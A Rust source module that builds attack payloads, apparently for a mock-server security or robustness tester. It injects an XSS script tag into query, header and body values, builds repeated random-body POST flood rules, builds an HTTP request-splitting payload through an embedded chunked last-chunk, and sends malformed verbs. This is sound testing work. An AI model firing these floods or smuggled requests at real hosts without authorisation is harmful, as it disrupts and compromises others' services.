//! Attack payload construction
//!
//! Pure string-building functions: each takes an input signature (or a
//! target) and returns a new one. No hidden state, so every transform is
//! directly testable.

use crate::error::{AttackError, AttackResult};
use crate::transport::target_url;
use lazy_static::lazy_static;
use mock_common::{OutboundRule, RequestSignature, Rule};
use rand::distributions::Alphanumeric;
use rand::Rng;
use regex::Regex;
use std::sync::Arc;

/// Script injected into every XSS position
pub const XSS_PAYLOAD: &str = r#"<script>alert("XSS")</script>"#;

/// Method token that no server recognises
pub const INVALID_VERB: &str = "wrongVerb";

/// Method token made of reserved punctuation and non-ASCII letters
pub const SPECIAL_CHAR_VERB: &str = "&'ƒ#%Šµ";

/// Header pair made of reserved punctuation and non-ASCII symbols
pub const SPECIAL_CHAR_HEADER: (&str, &str) = ("~`^@=+*", "$€£¤ø");

/// Header carrying the embedded chunked encoding and the early last-chunk
pub const SPLITTING_HEADER: (&str, &str) = ("Transfer-Encoding", "chunked\r\n\r\n0\r\n\r\n");

/// Body of the request smuggled inside the splitting payload
pub const SPLITTING_INNER_BODY: &str = "HTTP Request Splitting Attack";

lazy_static! {
    /// `<base>?<key=val>&...`; the base keeps its trailing `?`
    static ref QUERY_PATTERN: Regex = Regex::new(r"(?s)^(.*\?)([^=]*=.*)$").unwrap();
    /// Four dot-separated groups of one to three digits
    static ref IPV4_PATTERN: Regex = Regex::new(r"\b(?:[0-9]{1,3}\.){3}[0-9]{1,3}\b").unwrap();
}

/// True when `path` names a host to send to (`http://host/...` or a bare
/// `host/...`) rather than a path on the mock listener itself
pub fn has_host(path: &str) -> bool {
    !(path.is_empty() || path.starts_with('/') || path.starts_with('?'))
}

/// Replace the value of every query parameter with [`XSS_PAYLOAD`]
///
/// Parameter order is preserved and a repeated name keeps its first
/// position. Fails with `MalformedAttackInput` when the path has no
/// `key=value` query component.
pub fn inject_query_xss(request: &RequestSignature) -> AttackResult<RequestSignature> {
    let captures = QUERY_PATTERN
        .captures(&request.path)
        .ok_or_else(|| AttackError::malformed(format!("no query component in {}", request.path)))?;

    let base = &captures[1];
    let mut names: Vec<&str> = Vec::new();
    for param in captures[2].split('&').filter(|param| !param.is_empty()) {
        let name = param.split('=').next().unwrap_or_default();
        if !names.contains(&name) {
            names.push(name);
        }
    }

    let query = names
        .iter()
        .map(|name| format!("{}={}", name, XSS_PAYLOAD))
        .collect::<Vec<_>>()
        .join("&");

    Ok(RequestSignature {
        path: format!("{}{}", base, query),
        ..request.clone()
    })
}

/// Replace every request header value with [`XSS_PAYLOAD`]
pub fn inject_header_xss(request: &RequestSignature) -> AttackResult<RequestSignature> {
    if request.headers.is_empty() {
        return Err(AttackError::malformed(format!("no headers on {}", request)));
    }

    let mut injected = request.clone();
    for value in injected.headers.values_mut() {
        *value = XSS_PAYLOAD.to_string();
    }
    Ok(injected)
}

/// Replace a non-empty request body with [`XSS_PAYLOAD`]
pub fn inject_body_xss(request: &RequestSignature) -> AttackResult<RequestSignature> {
    if request.body_str().is_empty() {
        return Err(AttackError::malformed(format!("no body on {}", request)));
    }

    Ok(request.clone().with_body(XSS_PAYLOAD))
}

/// Distinct IPv4-shaped tokens found in outbound rule paths, first seen first
///
/// Inbound rules describe the mock itself and are never used as targets.
pub fn extract_ip_addresses(rules: &[Rule]) -> Vec<String> {
    let mut addresses: Vec<String> = Vec::new();
    for rule in rules {
        let Rule::Outbound(rule) = rule else {
            continue;
        };
        for found in IPV4_PATTERN.find_iter(&rule.request.path) {
            if !addresses.iter().any(|known| known == found.as_str()) {
                addresses.push(found.as_str().to_string());
            }
        }
    }
    addresses
}

/// Pseudo-random alphanumeric body of `size` bytes
pub fn generate_flood_payload(size: usize) -> AttackResult<Arc<str>> {
    if size == 0 {
        return Err(AttackError::PayloadGenerationFailed {
            reason: "flood payload size must be positive".to_string(),
        });
    }

    let payload: String = rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(size)
        .map(char::from)
        .collect();
    Ok(Arc::from(payload))
}

/// POST the shared payload at `target`, `repeat_count` times back to back
pub fn flood_rule(target: &str, payload: &Arc<str>, repeat_count: u32) -> OutboundRule {
    let request = RequestSignature::new("POST", target).with_shared_body(Some(Arc::clone(payload)));
    OutboundRule::once(request).with_repeat(repeat_count)
}

/// Raw request line plus headers for a POST of [`SPLITTING_INNER_BODY`]
pub fn encode_inner_request(target: &str) -> String {
    let (host, path) = match target_url(target) {
        Ok(url) => (
            url.host_str().unwrap_or(target).to_string(),
            url.path().to_string(),
        ),
        Err(_) => (target.to_string(), "/".to_string()),
    };

    format!(
        "POST {} HTTP/1.1\r\nHost: {}\r\nContent-Length: {}\r\n\r\n{}",
        path,
        host,
        SPLITTING_INNER_BODY.len(),
        SPLITTING_INNER_BODY
    )
}

/// POST whose header block is cut short by an embedded last-chunk, with a
/// second request riding in the body
pub fn splitting_rule(target: &str) -> OutboundRule {
    let request = RequestSignature::new("POST", target)
        .with_header(SPLITTING_HEADER.0, SPLITTING_HEADER.1)
        .with_body(encode_inner_request(target));
    OutboundRule::once(request)
}

pub fn verb_not_exist_rule(target: &str) -> OutboundRule {
    OutboundRule::once(RequestSignature::new(INVALID_VERB, target))
}

pub fn empty_verb_rule(target: &str) -> OutboundRule {
    OutboundRule::once(RequestSignature::new("", target))
}

pub fn special_char_rule(target: &str) -> OutboundRule {
    let request = RequestSignature::new(SPECIAL_CHAR_VERB, target)
        .with_header(SPECIAL_CHAR_HEADER.0, SPECIAL_CHAR_HEADER.1);
    OutboundRule::once(request)
}
